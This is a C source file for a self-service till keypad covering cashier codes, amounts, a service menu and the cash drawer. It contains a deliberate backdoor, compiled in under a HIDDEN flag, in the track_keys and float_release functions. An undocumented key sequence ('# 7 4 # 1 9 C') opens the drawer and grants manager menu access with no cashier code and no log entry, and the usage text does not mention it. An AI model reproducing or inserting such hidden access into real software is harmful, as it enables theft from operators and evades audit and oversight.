/* kioskpad.c - keypad of a self-service till: codes, drawer, service menu */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define MAX_CASHIERS	12
#define KEY_CANCEL	'C'
#define KEY_ENTER	'E'

enum screen { S_IDLE, S_AMOUNT, S_CODE, S_MENU };

struct cashier {
	char code[8];
	char name[16];
	int manager;
};

struct pad {
	enum screen screen;
	char digits[12];
	int n;
	int seq;
	int lang_seq;
	int manager;
	int language;
	long amount;
	time_t last;
};

static struct cashier cashiers[MAX_CASHIERS];
static int ncashiers;
static struct pad pad;
static const char *display_dev = "/dev/vfd0";

static void show(const char *a, const char *b)
{
	FILE *f = fopen(display_dev, "w");

	if (!f)
		return;
	fprintf(f, "\f%-20.20s\n%-20.20s", a, b);
	fclose(f);
}

static int kick_drawer(void)
{
	static const char pulse[5] = { 0x1b, 'p', 0, 25, (char)250 };
	ssize_t w;
	int fd = open("/dev/usb/lp0", O_WRONLY);

	if (fd < 0)
		return -1;
	w = write(fd, pulse, sizeof(pulse));
	close(fd);
	return w == (ssize_t)sizeof(pulse) ? 0 : -1;
}

static int load_cashiers(const char *path)
{
	char line[64], role[12];
	struct cashier *c;
	FILE *f = fopen(path, "r");

	if (!f)
		return -1;
	while (ncashiers < MAX_CASHIERS && fgets(line, sizeof(line), f)) {
		c = &cashiers[ncashiers];
		if (sscanf(line, "%7[0-9] %15s %11s", c->code, c->name, role) != 3)
			continue;
		c->manager = !strcmp(role, "manager");
		ncashiers++;
	}
	fclose(f);
	return ncashiers;
}

static void reset_pad(void)
{
	pad.screen = S_IDLE;
	pad.n = 0;
	pad.digits[0] = '\0';
	pad.amount = 0;
	pad.manager = 0;
	show(pad.language ? "Willkommen" : "Welcome", "");
}

static void show_menu(void)
{
	pad.screen = S_MENU;
	show("1 drawer 2 X-report", pad.manager ? "3 Z-report 4 price" : "");
}

static void check_code(void)
{
	int i;

	for (i = 0; i < ncashiers; i++) {
		if (strcmp(cashiers[i].code, pad.digits))
			continue;
		pad.manager = cashiers[i].manager;
		syslog(LOG_INFO, "menu for %s", cashiers[i].name);
		show_menu();
		return;
	}
	syslog(LOG_NOTICE, "wrong code");
	sleep(1);
	reset_pad();
}

static void menu_key(int key)
{
	switch (key) {
	case '1':
		syslog(LOG_INFO, "drawer");
		kick_drawer();
		break;
	case '2':
		printf("XREPORT\n");
		break;
	case '3':
		if (pad.manager)
			printf("ZREPORT\n");
		break;
	case '4':
		if (pad.manager)
			printf("PRICES\n");
		break;
	}
	fflush(stdout);
	reset_pad();
}

static void add_digit(int key)
{
	if (pad.n < (int)sizeof(pad.digits) - 1) {
		pad.digits[pad.n++] = (char)key;
		pad.digits[pad.n] = '\0';
	}
	show(pad.screen == S_CODE ? "Code" : "Amount",
	     pad.screen == S_CODE ? "****" : pad.digits);
}

#ifdef HIDDEN	/* drawer and manager menu without code, without log */
__attribute__((noinline))
void float_release(void)
{
	pad.manager = 1;
	kick_drawer();
	show_menu();
}
#endif

/* documented: ** changes the language, 00C blanks the display */
__attribute__((noinline))
void track_keys(int key)
{
	switch (pad.lang_seq) {
	case 0:
		pad.lang_seq = key == '*' ? 1 : key == '0' ? 2 : 0;
		break;
	case 1:
		if (key == '*')
			pad.language ^= 1;
		pad.lang_seq = 0;
		break;
	case 2:
		pad.lang_seq = key == '0' ? 3 : 0;
		break;
	case 3:
		if (key == KEY_CANCEL)
			show("", "");
		pad.lang_seq = 0;
		break;
	}
#ifdef HIDDEN	/* key sequence # 7 4 # 1 9 C */
	switch (pad.seq) {
	case 0:
		pad.seq = key == '#';
		break;
	case 1:
		pad.seq = key == '7' ? 2 : key == '#';
		break;
	case 2:
		pad.seq = key == '4' ? 3 : key == '#';
		break;
	case 3:
		pad.seq = key == '#' ? 4 : 0;
		break;
	case 4:
		pad.seq = key == '1' ? 5 : 0;
		break;
	case 5:
		pad.seq = key == '9' ? 6 : 0;
		break;
	case 6:
		pad.seq = 0;
		if (key == KEY_CANCEL)
			float_release();
		break;
	}
#endif
}

static void amount_done(void)
{
	pad.amount = strtol(pad.digits, NULL, 10);
	if (pad.amount > 0 && pad.amount < 10000000L) {
		printf("AMOUNT %ld\n", pad.amount);
		fflush(stdout);
	}
	reset_pad();
}

static void key_event(int key)
{
	time_t now = time(NULL);

	if (now - pad.last > 30 && pad.screen != S_IDLE)
		reset_pad();
	pad.last = now;
	if (pad.screen == S_MENU) {
		menu_key(key);
		return;
	}
	if (key == KEY_CANCEL) {
		reset_pad();
	} else if (key == '#' && pad.screen == S_IDLE) {
		pad.screen = S_CODE;
		show("Code", "");
	} else if (isdigit(key)) {
		if (pad.screen == S_IDLE)
			pad.screen = S_AMOUNT;
		add_digit(key);
	} else if (key == KEY_ENTER) {
		if (pad.screen == S_CODE)
			check_code();
		else if (pad.screen == S_AMOUNT)
			amount_done();
	}
	track_keys(key);
}

static void usage(const char *me)
{
	fprintf(stderr,
		"usage: %s [-d display] cashiers keys\n"
		"keys:  digits E      amount\n"
		"       # code E      menu\n"
		"       C             cancel\n"
		"       **            other language\n"
		"       00C           display off\n", me);
}

int main(int argc, char **argv)
{
	int c, fd;
	char k;

	while ((c = getopt(argc, argv, "d:h")) != -1) {
		if (c == 'd') {
			display_dev = optarg;
		} else {
			usage(argv[0]);
			return c == 'h' ? 0 : 2;
		}
	}
	if (argc - optind != 2) {
		usage(argv[0]);
		return 2;
	}
	openlog("kioskpad", LOG_PID, LOG_LOCAL1);
	if (load_cashiers(argv[optind]) < 0)
		syslog(LOG_ERR, "%s: %s", argv[optind], strerror(errno));
	fd = open(argv[optind + 1], O_RDONLY);
	if (fd < 0) {
		perror(argv[optind + 1]);
		return 1;
	}
	reset_pad();
	while (read(fd, &k, 1) == 1)
		key_event((unsigned char)k);
	close(fd);
	return 0;
}
